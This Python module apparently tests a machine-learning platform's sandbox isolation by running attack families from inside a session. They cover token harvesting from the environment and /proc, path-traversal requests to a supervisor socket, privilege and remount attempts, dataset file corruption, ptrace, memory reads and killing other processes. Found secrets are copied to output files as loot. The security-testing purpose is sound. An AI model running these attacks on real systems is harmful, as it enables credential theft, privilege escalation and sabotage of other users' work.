"""Attacks a hostile session tries on the platform, run from inside real sessions.

Standard library only (it runs in the session's interpreter, before anything is installed).
The test that starts the session writes `targets.json` beside this file with what an attacker
could learn or guess: the NSML home's path, the server's port and pid, other sessions' pids and
folders, paths of root-owned files; and, so that the script can *recognise* a secret when it
finds one without being given it, the sha256 and size of each secret (the owner's token, the
hidden labels, a root-only file, another session's private file).

Every attempt prints one line:

    ATTACK-OK <what>: <detail>    it got through (the secret's bytes follow, to be exfiltrated)
    BLOCKED <what>: <error>       it did not
    NOTE <what>: <detail>         information for the reader, neither

and whatever an attack obtains is also copied into the working directory (`loot/`), which the
platform ships back to the owner as the session's output files: the test then looks for the
secret's bytes in the logs and the outputs, not only for the markers. Every family ends with
`DONE <family>`, so a script that died half-way cannot pass for one that was blocked.
"""

import ctypes
import hashlib
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tarfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
T = json.load(open(os.path.join(HERE, "targets.json")))
SPOOL = os.environ.get("NSML_SPOOL") or "/run/nsml"
DATA = os.environ.get("NSML_DATASET_PATH") or ""
WHERE = os.environ.get("NSML_RELAUNCH") or "train"  # train, submit, submit_test, infer
SCOPED = re.compile(rb"nsml-s\.[0-9]+\.[0-9]+\.[0-9a-f]{64}")
TOKENISH = re.compile(rb"[A-Za-z0-9_\-]{32,64}")
REPORT: list[str] = []  # every line printed, for an infer session to hand back as its output
_loot = [0]


def say(line: str) -> None:
    REPORT.append(line)
    print(line, flush=True)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def ok(what: str, detail: str, data: bytes = b"") -> None:
    """An attack got through: say so, and exfiltrate what it got (log and output files)."""
    say(f"ATTACK-OK {what}: {detail}")
    if data:
        say("LOOT " + data[:4096].decode("utf-8", "replace"))
        try:
            os.makedirs("loot", exist_ok=True)
            _loot[0] += 1
            with open(os.path.join("loot", str(_loot[0])), "wb") as f:
                f.write(data[:1 << 20])
        except OSError:
            pass


def blocked(what: str, why) -> None:
    say(f"BLOCKED {what}: {why}")


def note(what: str, detail) -> None:
    say(f"NOTE {what}: {detail}")


def read(path: str, limit: int = 1 << 20) -> bytes:
    with open(path, "rb") as f:
        return f.read(limit)


# -- recognising secrets ---------------------------------------------------------------------
SECRETS = {}  # sha256 -> name, for files found whole
for _name in ("label", "secret", "private", "rootfile"):
    if T.get(f"{_name}_sha"):
        SECRETS[T[f"{_name}_sha"]] = _name
SIZES = {T[f"{n}_size"] for n in ("label", "secret", "private") if T.get(f"{n}_size")}
FOUND_TOKENS: dict[bytes, str] = {}  # candidate token -> where it was seen


def recognise(data: bytes, where: str) -> None:
    """Report a whole secret file, the owner's token or a scoped token inside `data`."""
    name = SECRETS.get(sha(data))
    if name and name != "rootfile":
        ok(f"read the {name}", where, data)
    scan_tokens(data, where)


def scan_tokens(data: bytes, where: str) -> None:
    for found in SCOPED.findall(data):
        if found not in FOUND_TOKENS:
            FOUND_TOKENS[found] = where
            ok("found a session-scoped token", where, found)
    for found in TOKENISH.findall(data):
        if sha(found) == T.get("token_sha") and found not in FOUND_TOKENS:
            FOUND_TOKENS[found] = where
            ok("found the owner's token", where, found)
        elif len(FOUND_TOKENS) < 400:
            FOUND_TOKENS.setdefault(found, where)


def look_at_file(path: str, where: str = "") -> bool:
    """Read one file if we may; recognise what is in it. True if it could be read."""
    try:
        data = read(path)
    except OSError:
        return False
    recognise(data, where or path)
    return True


# -- 1. credentials and the network ------------------------------------------------------------
def family_token() -> None:
    token = os.environ.get("NSML_TOKEN")
    if token:
        ok("NSML_TOKEN is set in the environment", "NSML_TOKEN", token.encode())
    else:
        blocked("NSML_TOKEN in the environment", "not set")
    note("environment keys", " ".join(sorted(os.environ)))
    for key, value in os.environ.items():
        recognise(value.encode(), f"environment {key}")
    before = set(FOUND_TOKENS)
    # The spool: everything the supervisor and the session share.
    read_files = 0
    for folder, _dirs, files in os.walk(SPOOL):
        for name in files:
            read_files += look_at_file(os.path.join(folder, name), f"spool {name}")
    note("spool files read", read_files)
    # Every process we can see: environment and command line.
    seen = 0
    for pid in _pids():
        for part in ("environ", "cmdline"):
            try:
                recognise(read(f"/proc/{pid}/{part}"), f"/proc/{pid}/{part}")
                seen += 1
            except OSError:
                pass
    note("process files read", seen)
    # Files an attacker would look in first: the NSML home, home folders, temporary folders.
    home = T.get("home", "")
    for path in (f"{home}/token", f"{home}/server.json", f"{home}/nsml.db", "/root/.nsml/token",
                 os.path.expanduser("~/.nsml/token")):
        if look_at_file(path):
            ok("read a platform file", path)
    for pattern_root in (f"{home}/runs", "/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/app", "/etc"):
        _scan_tree(pattern_root, budget=2.0)
    if not [t for t in FOUND_TOKENS if t not in before and (SCOPED.fullmatch(t) or sha(t) == T.get("token_sha"))]:
        blocked("a token in the spool, /proc or readable files", "none found")
    use_credentials()
    say("DONE token")


def _scan_tree(root: str, budget: float) -> None:
    deadline = time.monotonic() + budget
    for folder, dirs, files in os.walk(root):
        for name in files:
            if time.monotonic() > deadline:
                return
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or os.path.getsize(path) > 256 << 10:
                    continue
            except OSError:
                continue
            look_at_file(path)


def endpoints() -> list[tuple[str, int, str]]:
    ports = [(T["server_port"], "the NSML server"), (T["listener_port"], "a loopback service")]
    if T.get("wildcard_port"):
        ports.append((T["wildcard_port"], "a service on all the host's addresses"))
    return [(host, port, what) for host in T["hosts"] for port, what in ports]


def family_network() -> None:
    reached = []
    for host, port, what in endpoints():
        try:
            conn = socket.create_connection((host, port), timeout=3)
        except OSError as exc:
            blocked(f"connect to {what} at {host}:{port}", exc)
            continue
        with conn:
            try:
                conn.sendall(b"GET /api/health HTTP/1.0\r\nHost: x\r\n\r\n" if port == T["server_port"] else b"session was here\n")
                answer = conn.recv(200)
            except OSError as exc:
                answer = repr(exc).encode()
        reached.append((host, port))
        ok(f"connected to {what} at {host}:{port}", answer[:120].decode("utf-8", "replace"))
    # Abstract Unix sockets belong to a network namespace: the host's would be the platform's.
    try:
        names = [ln.split()[-1] for ln in read("/proc/net/unix").decode().splitlines()[1:] if ln.split()[-1].startswith("@")]
    except (OSError, IndexError):
        names = []
    for name in sorted(set(names))[:50]:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            try:
                s.connect("\0" + name[1:])
                note("connected to an abstract socket", name)
            except OSError:
                pass
    note("routes", " | ".join(_lines("/proc/net/route")[1:]) or "none")
    note("network interfaces", [n for _i, n in socket.if_nameindex()])
    say("DONE network")


def use_credentials() -> None:
    """Whatever was found (and nothing at all): ask the API for the hidden labels."""
    tokens = sorted(FOUND_TOKENS, key=lambda t: not (SCOPED.fullmatch(t) or sha(t) == T.get("token_sha")))[:25]
    targets = [(h, p) for h, p, _w in endpoints() if p == T["server_port"]]
    reachable = []
    for host, port in targets:
        try:
            socket.create_connection((host, port), timeout=3).close()
            reachable.append((host, port))
        except OSError:
            pass
    if not reachable:
        blocked("the API with a found credential", "the server cannot be reached from here")
    for host, port in reachable[:1]:
        for token in [None, *tokens]:
            _ask_archive(host, port, token)
    # The supervisor's socket (and any other socket in the spool): the only way to the platform.
    for folder, _dirs, files in os.walk(SPOOL):
        for name in files:
            path = os.path.join(folder, name)
            try:
                import stat

                if not stat.S_ISSOCK(os.lstat(path).st_mode):
                    continue
            except OSError:
                continue
            for request in _gateway_requests():
                answer = _unix_ask(path, json.dumps(request).encode() + b"\n")
                recognise(answer, f"answer of {name}")
                _find_label_in_tar(answer, f"answer of {name}")
                _look_at_load(answer, request)
            note("asked the socket", name)


def _gateway_requests() -> list:
    """What the supervisor's socket is asked: its one operation (load a checkpoint, fetched with
    the supervisor's credentials) turned to other URLs: dot segments that a URL library
    normalises away (…/sessions/../datasets/NAME/checkpoints/../archive is the dataset's
    archive, hidden labels included), and requests it has no operation for. (Another of the
    owner's sessions' checkpoints it may load: that is what the operation is for.)"""
    name = T["dataset"]
    out = [{"op": "load", "session": f"../datasets/{name}", "checkpoint": ".."},
           {"op": "load", "session": f"./../datasets/{name}", "checkpoint": "../."},
           {"op": "load", "session": "../../api/datasets", "checkpoint": ".."},
           {"op": "load", "session": f"../datasets/{name}/test", "checkpoint": "test_label"},
           {"op": "fetch", "url": f"/api/datasets/{name}/archive"},
           {"op": "dataset", "name": name, "split": "test"}]
    return out


def _look_at_load(answer: bytes, request: dict) -> None:
    try:
        reply = json.loads(answer)
    except ValueError:
        return
    if not isinstance(reply, dict) or not isinstance(reply.get("dir"), str):
        blocked(f"the supervisor's load of {request}", str(reply)[:200] if reply else "no answer")
        return
    folder = os.path.join(SPOOL, reply["dir"])
    names = []
    for sub, _dirs, files in os.walk(folder):
        for file in files:
            names.append(os.path.relpath(os.path.join(sub, file), folder))
            look_at_file(os.path.join(sub, file), f"the supervisor's load of {request}")
    if any(n.startswith("test/") or n.startswith("train/") for n in names):
        ok("fetched the dataset through the supervisor", f"{request}: {names[:10]}")
    else:
        note(f"the supervisor's load of {request}", names[:10])


def _ask_archive(host: str, port: int, token: bytes | None) -> None:
    import http.client

    try:
        conn = http.client.HTTPConnection(host, port, timeout=10)
        headers = {"Authorization": f"Bearer {token.decode()}"} if token else {}
        conn.request("GET", f"/api/datasets/{T['dataset']}/archive", headers=headers)
        resp = conn.getresponse()
        body = resp.read(64 << 20)
    except OSError as exc:
        blocked("GET the dataset archive", exc)
        return
    who = "without a token" if token is None else f"with a token found in {FOUND_TOKENS.get(token)}"
    if resp.status == 200:
        if not _find_label_in_tar(body, f"the API archive {who}"):
            ok(f"an API call {who}", f"GET /api/datasets/{T['dataset']}/archive answered 200")
    else:
        blocked(f"the API archive {who}", resp.status)


def _find_label_in_tar(body: bytes, where: str) -> bool:
    try:
        with tarfile.open(fileobj=io.BytesIO(body)) as tar:
            for member in tar.getmembers():
                if member.name.endswith("test_label"):
                    ok("got the hidden labels", where, tar.extractfile(member).read())
                    return True
    except (tarfile.TarError, OSError, EOFError):
        pass
    return False


def _unix_ask(path: str, request: bytes) -> bytes:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect(path)
            s.sendall(request)
            out = b""
            while len(out) < 4 << 20:
                chunk = s.recv(65536)
                if not chunk:
                    break
                out += chunk
            return out
    except OSError:
        return b""


# -- 2. the hidden labels ---------------------------------------------------------------------
def family_labels() -> None:
    if DATA:
        test = os.path.join(DATA, "test")
        if os.path.exists(os.path.join(test, "test_label")):
            look_at_file(os.path.join(test, "test_label"))
            ok(f"{WHERE} sees test/test_label", os.path.join(test, "test_label"))
        elif WHERE in ("train", "infer") and os.path.exists(test):
            ok(f"{WHERE} sees test/", str(os.listdir(test)))
        else:
            blocked("test_label in the dataset view", sorted(os.listdir(DATA)))
        for folder, _dirs, files in os.walk(DATA):
            for name in files:
                look_at_file(os.path.join(folder, name))
    home = T["home"]
    places = [f"{home}/blobs", f"{home}/nsml.db", f"{home}/token", f"{home}/views", f"{home}/runs"]
    server = T.get("server_pid")
    if server:
        places += [f"/proc/{server}/root{home}/blobs", f"/proc/{server}/root{home}/token", f"/proc/{server}/cwd"]
    for pid in _other_roots():
        places.append(f"/proc/{pid}/root{home}/blobs")
    # The mount table names where the dataset view and the working folder come from: the home.
    for line in _lines("/proc/self/mountinfo"):
        fields = line.split()
        root = fields[3] if len(fields) > 4 else ""
        parts = root.split("/")
        for i in range(2, len(parts)):
            places.append("/".join(parts[:i]) + "/blobs")
    note("mount roots", sorted({ln.split()[3] for ln in _lines("/proc/self/mountinfo") if len(ln.split()) > 4})[:20])
    deadline = time.monotonic() + 20
    for path in dict.fromkeys(places):
        if time.monotonic() > deadline:
            note("labels: out of time", path)
            break
        if os.path.isdir(path):
            try:
                listing = os.listdir(path)
            except OSError as exc:
                blocked(f"list {path}", exc)
                continue
            if listing:
                ok("listed a platform folder", f"{path}: {len(listing)} entries")
            _walk_for(path, budget=4.0)
        elif os.path.isfile(path):
            if look_at_file(path):
                ok("read a platform file", path, read(path, 4096))
        else:
            blocked(f"reach {path}", "absent")
    for path in (T.get("label_blob"), T.get("private_path"), T.get("victim_workdir") and T["victim_workdir"] + "/private.txt"):
        if path:
            if not look_at_file(path):
                blocked(f"read {path} by its path", "cannot open")
    # Guessing: every file on every path we can see whose size is a secret's.
    _walk_for("/", budget=8.0)
    say("DONE labels")


def _walk_for(root: str, budget: float) -> None:
    deadline = time.monotonic() + budget
    for folder, dirs, files in os.walk(root):
        if folder == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if time.monotonic() > deadline:
                note("walk ended by its time budget", root)
                return
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) in SIZES and not os.path.islink(path):
                    look_at_file(path)
            except OSError:
                pass


def _other_roots() -> list[int]:
    """Visible processes whose root is not ours (one of each): a way into their filesystem."""
    try:
        ours = os.stat("/")
    except OSError:
        return []
    seen, out = {(ours.st_dev, ours.st_ino)}, []
    for pid in _pids():
        try:
            st = os.stat(f"/proc/{pid}/root")
        except OSError:
            continue
        if (st.st_dev, st.st_ino) not in seen:
            seen.add((st.st_dev, st.st_ino))
            out.append(pid)
    return out


def _lines(path: str) -> list[str]:
    try:
        return read(path).decode().splitlines()
    except OSError:
        return []


def _pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


# -- 3. privilege -----------------------------------------------------------------------------
libc = ctypes.CDLL(None, use_errno=True)
MS_RDONLY, MS_REMOUNT, MS_BIND, MNT_DETACH = 1, 32, 4096, 2
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000


def family_privilege() -> None:
    status = dict(ln.split(":", 1) for ln in _lines("/proc/self/status") if ":" in ln)
    caps = int(status.get("CapEff", "0").strip(), 16)
    say(f"CAPEFF {caps:x} UID {os.getuid()} EUID {os.geteuid()} NONEWPRIVS {status.get('NoNewPrivs', '?').strip()}")
    if caps:
        ok("holds capabilities", f"CapEff={caps:x}")
    else:
        blocked("capabilities", "CapEff is 0")
    if os.geteuid() == 0:
        ok("runs as root", "euid 0")
    try:
        os.setuid(0)
        ok("became root", "setuid(0) worked")
    except OSError as exc:
        blocked("setuid(0)", exc)
    # A root-owned 0600 file outside the session, by its path and through /proc.
    secret = T.get("secret_path")
    if secret:
        for path in (secret, f"/proc/1/root{secret}", f"/proc/{T.get('server_pid')}/root{secret}"):
            try:
                data = read(path)
                ok("read a root-only file", path, data)
            except OSError as exc:
                blocked(f"read {path}", exc)
    rootfile = T.get("rootfile_path")
    if rootfile:
        for attempt, action in (("append to", lambda: open(rootfile, "a").write("session was here\n")),
                                ("chmod", lambda: os.chmod(rootfile, 0o666)),
                                ("replace", lambda: _replace(rootfile))):
            try:
                action()
                ok(f"{attempt} a root-owned 0644 file", rootfile)
            except OSError as exc:
                blocked(f"{attempt} {rootfile}", exc)
    for name in sorted(os.listdir("/dev")):
        if re.fullmatch(r"(sd|vd|xvd|nvme|hd|loop|dm-|md|mem|kmem|port|kmsg).*", name):
            try:
                read(f"/dev/{name}", 512)
                ok("read a raw device", f"/dev/{name}")
            except OSError as exc:
                blocked(f"read /dev/{name}", exc)
    try:
        os.mknod("/tmp/disk", 0o600 | 0o60000, os.makedev(8, 0))
        ok("made a device node", "mknod /tmp/disk 8:0")
    except OSError as exc:
        blocked("mknod a block device", exc)
    dataset_view()
    say("DONE privilege")


def _replace(path: str) -> None:
    new = path + ".new"
    with open(new, "w") as f:
        f.write("replaced by a session\n")
    os.replace(new, path)


def dataset_view() -> None:
    """Write into the dataset view: directly, after a remount, after unmounting it, from a user
    namespace of our own. Its files are the stored blobs (hard links)."""
    if not DATA:
        return
    files = [os.path.join(f, n) for f, _d, names in os.walk(DATA) for n in names]
    target = files[0] if files else os.path.join(DATA, "x")
    raw = os.fsencode(DATA)
    if libc.mount(b"none", raw, None, MS_REMOUNT | MS_BIND, None) == 0:
        ok("remounted the dataset view read-write", DATA)
    else:
        blocked("mount(MS_REMOUNT) of the dataset view", os.strerror(ctypes.get_errno()))
    out = _sh(f"mount -o remount,rw,bind {DATA} && echo REMOUNTED")
    (ok if "REMOUNTED" in out else blocked)("mount -o remount,rw of the dataset view", out.strip().replace("\n", " | ")[-200:])
    _write_attempts(target)
    for path in (DATA, "/app", "/tmp", SPOOL, "/proc", "/"):
        if libc.umount2(os.fsencode(path), MNT_DETACH) == 0:
            ok("unmounted something", path)
        else:
            blocked(f"umount {path}", os.strerror(ctypes.get_errno()))
    if libc.unshare(CLONE_NEWNS) == 0:
        ok("a mount namespace of its own without a user namespace", "unshare(CLONE_NEWNS) worked")
    else:
        blocked("unshare(CLONE_NEWNS)", os.strerror(ctypes.get_errno()))
    # A user namespace of our own (root inside it): the view's mount is locked read-only there.
    script = (f"mount -o remount,rw,bind {DATA} && echo REMOUNTED; umount -l {DATA} && echo UNMOUNTED; "
              f"ls {DATA}; echo corrupted >> {target} && echo WROTE; touch {DATA}/new && echo CREATED")
    out = _sh(f"unshare -Urm sh -c '{script}'")
    note("unshare -Urm (a user namespace of the session's own)", out.strip().replace("\n", " | ")[-300:])
    for word, what in (("REMOUNTED", "remounted the view read-write in a user namespace"),
                       ("WROTE", "wrote a dataset file from a user namespace"),
                       ("CREATED", "created a file in the dataset view from a user namespace")):
        (ok if word in out.split() else blocked)(what, out.strip().replace("\n", " | ")[-200:])


def _write_attempts(target: str) -> None:
    for attempt, action in (("append to", lambda: open(target, "a").write("corrupted")),
                            ("truncate", lambda: open(target, "r+").truncate(0)),
                            ("chmod", lambda: os.chmod(target, 0o666)),
                            ("create in", lambda: open(os.path.join(DATA, "new"), "w").close()),
                            ("remove", lambda: os.remove(target))):
        try:
            action()
            ok(f"{attempt} the dataset view", target)
        except OSError as exc:
            blocked(f"{attempt} the dataset view", exc)


def _sh(command: str) -> str:
    """stdout and stderr of a shell command, together."""
    try:
        return subprocess.run(["/bin/sh", "-c", command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              text=True, timeout=20).stdout
    except (OSError, subprocess.SubprocessError) as exc:
        return f"could not run: {exc}"


# -- 4. other processes -----------------------------------------------------------------------
PTRACE_SEIZE = 0x4206
MARKS = {b"nsml.scheduler.supervisor": "a supervisor", b"nsml.server.main": "the server", b"bwrap": "bubblewrap"}


def family_processes() -> None:
    me = os.getpid()
    mine = {me, *_ancestors_inside()}
    visible = _pids()
    note("visible processes", len(visible))
    targets: dict[int, str] = {}
    for pid in visible:
        try:
            cmd = read(f"/proc/{pid}/cmdline").replace(b"\0", b" ")
        except OSError:
            continue
        for mark, what in MARKS.items():
            if mark in cmd and pid not in (me,):
                targets[pid] = what
                if mark != b"bwrap":
                    ok(f"sees {what}'s process", f"pid {pid}: {cmd[:160].decode('utf-8', 'replace')}")
    for pid in T.get("platform_pids", []):
        targets.setdefault(pid, "a platform process (pid given)")
    for pid in T.get("victim_pids", []):
        targets.setdefault(pid, "another session's process")
    if os.getppid() not in mine:
        targets.setdefault(os.getppid(), "the parent (the supervisor, or the sandbox's init)")
    for pid, what in sorted(targets.items()):
        if pid == me:
            continue
        _inspect(pid, what)
    # Guessing: every pid the kernel can hand out, signal 0 (permission and existence only).
    signalled = []
    try:
        pid_max = int(read("/proc/sys/kernel/pid_max"))
    except (OSError, ValueError):
        pid_max = 1 << 15
    ours = {pid for pid in visible if _session_of(pid) == os.getsid(0)}  # the session's own processes
    for pid in range(1, min(pid_max, 1 << 17) + 1):
        if pid in mine or pid in ours:
            continue
        try:
            os.kill(pid, 0)
            signalled.append(pid)
        except OSError:
            pass
    if signalled:
        ok("may signal processes it cannot see", f"{len(signalled)} pids, e.g. {signalled[:10]}")
    else:
        blocked("signal any pid outside its own processes", f"none of 1..{min(pid_max, 1 << 17)}")
    for pid in T.get("kill_pids", []):
        for how, act in (("kill -9", lambda p=pid: os.kill(p, signal.SIGKILL)),
                         ("kill -9 of its group", lambda p=pid: os.killpg(p, signal.SIGKILL))):
            try:
                act()
                ok(f"{how} {pid}", "the signal was delivered")
            except OSError as exc:
                blocked(f"{how} {pid}", exc)
    say("DONE processes")


def _session_of(pid: int) -> int | None:
    try:
        return int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[3])
    except (OSError, ValueError, IndexError):
        return None


def _ancestors_inside() -> list[int]:
    out, pid = [], os.getpid()
    for _ in range(10):
        try:
            pid = int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 0:
            break
        out.append(pid)
    return out


def _inspect(pid: int, what: str) -> None:
    label = f"{what} (pid {pid})"
    try:
        env = read(f"/proc/{pid}/environ")
        if env:
            recognise(env, f"/proc/{pid}/environ")
            ok(f"read the environment of {label}", f"{len(env)} bytes")
        else:
            blocked(f"environment of {label}", "empty")
    except OSError as exc:
        blocked(f"environment of {label}", exc)
    try:
        maps = read(f"/proc/{pid}/maps").decode().splitlines()
        region = next(ln for ln in maps if " r" in ln[:30])
        start = int(region.split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as mem:
            mem.seek(start)
            ok(f"read the memory of {label}", f"{len(mem.read(64))} bytes at {start:x}")
    except (OSError, StopIteration, ValueError) as exc:
        blocked(f"memory of {label}", exc)
    home = T.get("home", "")
    try:
        if os.path.exists(f"/proc/{pid}/root{home}") and home:
            ok(f"sees the NSML home through /proc/{pid}/root", f"/proc/{pid}/root{home}: {os.listdir(f'/proc/{pid}/root{home}')[:10]}")
        else:
            blocked(f"/proc/{pid}/root of {label}", "no NSML home there")
    except OSError as exc:
        blocked(f"/proc/{pid}/root of {label}", exc)
    # ptrace from a child, so that its exit detaches (and the target never stops).
    child = os.fork()
    if child == 0:
        code = 0 if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0 else 1
        os._exit(code)
    _, status = os.waitpid(child, 0)
    if os.WEXITSTATUS(status) == 0:
        ok(f"ptrace {label}", "PTRACE_SEIZE worked")
    else:
        blocked(f"ptrace {label}", "refused")
    try:
        os.kill(pid, 0)
        ok(f"may signal {label}", "kill(pid, 0) worked")
    except OSError as exc:
        blocked(f"signal {label}", exc)


FAMILIES = {"token": family_token, "network": family_network, "labels": family_labels,
            "privilege": family_privilege, "processes": family_processes}


def run(names) -> str:
    """Run the named families (each guarded: one failing never hides the others)."""
    note("where", f"{WHERE} uid={os.getuid()} pid={os.getpid()} cwd={os.getcwd()} spool={SPOOL} data={DATA}")
    for name in names:
        try:
            FAMILIES[name]()
        except Exception as exc:  # noqa: BLE001 - the family's DONE line will be missing
            say(f"CRASHED {name}: {type(exc).__name__}: {exc}")
    return "\n".join(REPORT)
